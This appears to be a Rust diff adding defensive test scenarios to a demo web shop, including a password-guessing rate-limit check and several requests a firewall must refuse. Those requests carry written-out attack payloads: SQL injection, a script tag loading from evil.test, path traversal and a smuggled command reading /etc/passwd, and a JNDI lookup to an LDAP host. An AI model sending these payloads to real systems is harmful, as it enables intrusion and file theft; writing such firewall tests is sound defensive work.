@@ -10,6 +10,10 @@ use super::{credentials::Credentials, issuer::unsecured_token};
 const VISITOR: IpAddr = IpAddr::V4(Ipv4Addr::LOCALHOST);
 /// A loopback address that the demonstration blocks.
 pub(crate) const BLOCKED: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 66));
+/// A loopback address from which somebody guesses passwords.
+const GUESSER: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 77));
+/// How many passwords an address may guess in a day.
+pub(crate) const GUESSES: u32 = 3;
 
 /// One request and its expected answer.
 pub(crate) struct Scenario {
@@ -48,6 +52,7 @@ pub(crate) fn ordinary(credentials: &Credentials) -> Vec<Scenario> {
 pub(crate) fn hostile(credentials: &Credentials) -> Vec<Scenario> {
     let mut scenarios = stolen_and_forged(credentials);
     scenarios.extend(evasive(credentials));
+    scenarios.extend(injected(credentials));
     scenarios.extend(smuggled());
     scenarios
 }
@@ -72,6 +77,25 @@ fn stolen_and_forged(credentials: &Credentials) -> Vec<Scenario> {
         Scenario::get("administrator with a password only", "/admin/report", &bearer(admin_with_password))
             .refused(403, "mfa_required"),
         Scenario::get("blocked address", "/products", "").from(BLOCKED).refused(403, "address_blocked"),
+        guess().refused(429, "rate_limit_exceeded"),
+    ]
+}
+
+/// One more password guessed. As many as [`GUESSES`] reach the shop, which says that they are wrong.
+pub(crate) fn guess() -> Scenario {
+    Scenario::post("one guess too many", "/login", "", r#"{"user":"ada","password":"letmein"}"#).from(GUESSER)
+}
+
+/// What the firewall is for.
+fn injected(credentials: &Credentials) -> Vec<Scenario> {
+    let refused = |scenario: Scenario| scenario.refused(403, "waf_refused");
+    let script = r#"{"product":"<script src=//evil.test/x.js></script>"}"#;
+    vec![
+        refused(Scenario::get("SQL injection", "/products?id=1%27%20OR%20%271%27=%271", "")),
+        refused(Scenario::post("script in an order", "/orders", &bearer(&credentials.user), script)),
+        refused(Scenario::get("file outside", "/products?page=../../../../etc/passwd", "")),
+        refused(Scenario::get("command in a parameter", "/products?sort=;cat%20/etc/passwd", "")),
+        refused(Scenario::get("look-up in a header", "/products", "Referer: ${jndi:ldap://evil.test/a}\r\n")),
     ]
 }
 
